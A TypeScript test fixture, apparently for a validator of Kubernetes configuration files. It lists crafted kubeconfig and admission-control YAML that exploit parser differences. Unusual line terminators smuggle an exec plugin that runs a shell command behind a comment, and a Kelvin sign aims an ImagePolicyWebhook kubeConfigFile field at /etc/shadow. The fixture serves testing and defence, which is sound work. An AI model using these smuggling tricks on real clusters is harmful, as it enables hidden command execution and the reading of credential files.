const hook = (end: string): string =>
  [
    "apiVersion: v1",
    "kind: Config",
    "clusters: [{name: c, cluster: {server: 'https://127.0.0.1:1'}}]",
    "contexts: [{name: c, context: {cluster: c, user: u}}]",
    "current-context: c",
    "users:",
    "- name: u",
    "  user:",
    "    as: audit",
    // A comment up to the line feed by YAML 1.2; for go-yaml it ends before.
    `    # why${end}    exec: {apiVersion: client.authentication.k8s.io/v1, interactiveMode: Never, command: /bin/sh, args: ['-c', 'id > $MARKER']}`,
    "",
  ].join("\n");

const admission = [
  "apiVersion: apiserver.config.k8s.io/v1",
  "kind: AdmissionConfiguration",
  "plugins:",
  "- name: ImagePolicyWebhook",
  "  configuration:",
  // A Kelvin sign, which Go takes for a k where it looks for the name of a field.
  "    imagePolicy: {\u212AubeConfigFile: /etc/shadow}",
  "",
].join("\n");

/** Files that are harmless to a reader in JavaScript and not to Kubernetes. `$MARKER` stands for a file that the command makes. */
export const ATTACKS = {
  "a command after CR": { flag: "audit-webhook-config-file", text: hook("\r") },
  "a command after NEL": { flag: "audit-webhook-config-file", text: hook("\x85") },
  "a command after U+2028": { flag: "audit-webhook-config-file", text: hook("\u2028") },
  "a command after U+2029": { flag: "audit-webhook-config-file", text: hook("\u2029") },
  "a path behind a Kelvin sign": { flag: "admission-control-config-file", text: admission },
} as const;
